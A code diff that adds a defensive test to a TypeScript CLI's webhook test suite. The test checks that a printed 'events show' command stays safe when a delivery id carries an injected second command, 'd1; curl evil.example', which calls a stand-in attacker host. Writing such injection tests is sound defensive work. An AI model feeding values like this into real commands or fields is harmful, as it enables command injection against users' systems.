@@ -3,6 +3,7 @@ import { listEvents, listOrShowEvent } from '../../cli/commands/events.ts';
 import { replayEvent } from '../../cli/commands/events-replay.ts';
 import { explainDelivery } from '../../cli/commands/inspect-why.ts';
 import { disableWebhook, listWebhooks, subscribeWebhook } from '../../cli/commands/webhook.ts';
+import { waitForEvent } from '../../cli/commands/webhook-wait.ts';
 import type { JsonObject } from '../../machines/base/json.ts';
 import { stageCommand } from '../support/command-stage.ts';
 
@@ -95,4 +96,12 @@ t.test('SUB-1 · DLV-3 · a new subscription that names what is not there is mad
   t.equal(await subscribeWebhook(context), 0);
   t.match(seen.printed, /Secret {2}s/);
   t.equal(seen.complained, 'agent: cc delivers to nothing\n');
+});
+
+t.test('SUB-4 · SEC-7 · the command that shows the first event is safe to type, whatever its id', async (t) => {
+  const { context, seen } = stageCommand({});
+  const came = { ...row('0mwu633pl0000nu9ns'), status: 'accepted', delivery_id: 'd1; curl evil.example' };
+  const client = { ask: () => Promise.resolve([came]), closed: new Promise(() => {}) } as never;
+  await waitForEvent(context, client, { name: 'r', profile: 'default' }, new Set());
+  t.equal(seen.printed, 'Came: push. See it by: agent events show 0mwu633pl0000nu9ns\n');
 });
